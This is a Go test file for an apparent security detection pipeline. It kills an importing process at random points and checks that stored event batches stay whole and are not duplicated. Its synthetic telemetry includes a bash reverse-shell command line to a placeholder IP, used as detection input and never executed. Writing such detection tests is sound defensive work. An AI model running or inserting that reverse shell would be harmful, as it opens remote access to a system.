package pipeline_test

import (
	"bufio"
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/attack"
	"github.com/quarry-sec/quarry/detections/pipeline"
	"github.com/quarry-sec/quarry/detections/ruleset"
	"github.com/quarry-sec/quarry/telemetry"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
)

const killBatch = 40

// killEvents is batch b of the kill test's endless, deterministic import:
// every tenth event a reverse shell (hits), every tenth plus one an ARP
// cache listing (a tag), the rest ordinary commands.
func killEvents(b int) []telemetry.Event {
	t0 := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	evs := make([]telemetry.Event, killBatch)
	for i := range evs {
		var e telemetry.Event
		pid := int64(10000 + b*killBatch + i)
		switch i % 10 {
		case 0:
			e = linuxExec(pid, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/sbin/nginx")
		case 1:
			e = linuxExec(pid, "/usr/sbin/arp", "arp -a", "/bin/bash")
		default:
			e = linuxExec(pid, "/usr/bin/ls", "ls -l "+strconv.Itoa(i), "/bin/bash")
		}
		e.Time = t0.Add(time.Duration(b*killBatch+i) * time.Millisecond)
		e.Fields = telemetry.FieldsFromMap(map[string]string{"batch": strconv.Itoa(b)})
		evs[i] = e
	}
	return evs
}

// TestKillMidBatch kills an importing process (this test binary re-run as
// TestKillWriter) at random points, several rounds over one store, each
// round importing the same batches again from the start, and checks that
// every batch is whole or absent — its events with their tags and hits, no
// hit without its event — and that nothing is stored twice.
func TestKillMidBatch(t *testing.T) {
	if os.Getenv("QUARRY_KILL_WRITER") != "" {
		t.Skip("helper process")
	}
	path := filepath.Join(t.TempDir(), "events.db")
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 7))
	maxCommitted := -1
	for round := range 5 {
		cmd := exec.Command(os.Args[0], "-test.run", "^TestKillWriter$")
		cmd.Env = append(os.Environ(), "QUARRY_KILL_WRITER="+path)
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// Kill once the writer has gone past what earlier rounds stored by
		// a random number of batches, a random moment after a commit.
		target := maxCommitted + 1 + rng.IntN(15)
		sc := bufio.NewScanner(out)
		for sc.Scan() {
			var b int
			if _, err := fmt.Sscanf(sc.Text(), "committed %d", &b); err == nil && b >= target {
				maxCommitted = max(maxCommitted, b)
				break
			}
		}
		time.Sleep(time.Duration(rng.IntN(30000)) * time.Microsecond)
		cmd.Process.Signal(syscall.SIGKILL)
		cmd.Wait()
		checkBatches(t, path, round, maxCommitted)
	}
}

func checkBatches(t *testing.T, path string, round, committed int) {
	t.Helper()
	st, err := eventstore.Open(path)
	if err != nil {
		t.Fatalf("round %d: store does not open after kill -9: %v", round, err)
	}
	defer st.Close()
	ctx := context.Background()
	type batch struct{ events, tagged, hits int }
	batches := map[int]*batch{}
	batchOf := map[int64]int{}
	err = st.Scan(ctx, eventstore.Filter{}, func(e *eventstore.StoredEvent) bool {
		b, _ := strconv.Atoi(e.Field("batch"))
		if batches[b] == nil {
			batches[b] = &batch{}
		}
		batches[b].events++
		if e.Techniques != "" {
			batches[b].tagged++
		}
		batchOf[e.EID] = b
		return true
	})
	if err != nil {
		t.Fatal(err)
	}
	err = st.ScanHits(ctx, eventstore.HitFilter{}, func(h *telemetry.Hit) bool {
		b, ok := batchOf[h.EID]
		if !ok {
			t.Errorf("round %d: hit %s on event %d, which is not stored", round, h.HitID, h.EID)
			return true
		}
		batches[b].hits++
		return true
	})
	if err != nil {
		t.Fatal(err)
	}
	var want *batch
	for b := 0; b <= committed; b++ {
		got := batches[b]
		if got == nil {
			t.Fatalf("round %d: committed batch %d is missing", round, b)
		}
		if want == nil {
			want = got
			if want.events != killBatch || want.tagged != killBatch/10 || want.hits < killBatch/10 {
				t.Fatalf("round %d: batch 0 holds %+v", round, *want)
			}
		}
		if *got != *want {
			t.Fatalf("round %d: batch %d holds %+v, batch 0 %+v", round, b, *got, *want)
		}
	}
	for b, got := range batches {
		if *got != *want {
			t.Fatalf("round %d: batch %d (past the last reported commit %d) holds %+v, want %+v", round, b, committed, *got, *want)
		}
	}
	t.Logf("round %d: %d whole batches (%d reported committed)", round, len(batches), committed+1)
}

// TestKillWriter is TestKillMidBatch's writer: it imports killEvents
// batches from 0 on, forever, printing each batch once it is committed.
func TestKillWriter(t *testing.T) {
	path := os.Getenv("QUARRY_KILL_WRITER")
	if path == "" {
		t.Skip("helper process for TestKillMidBatch")
	}
	kb, err := attack.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	res, err := ruleset.Load(ruleset.Config{Builtin: true, KB: kb})
	if err != nil {
		t.Fatal(err)
	}
	st, err := eventstore.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	d, _ := pipeline.NewDetector(res.Rules, kb)
	for b := 0; ; b++ {
		if _, err := d.Store(context.Background(), st, killEvents(b)); err != nil {
			t.Fatal(err)
		}
		fmt.Printf("committed %d\n", b)
	}
}
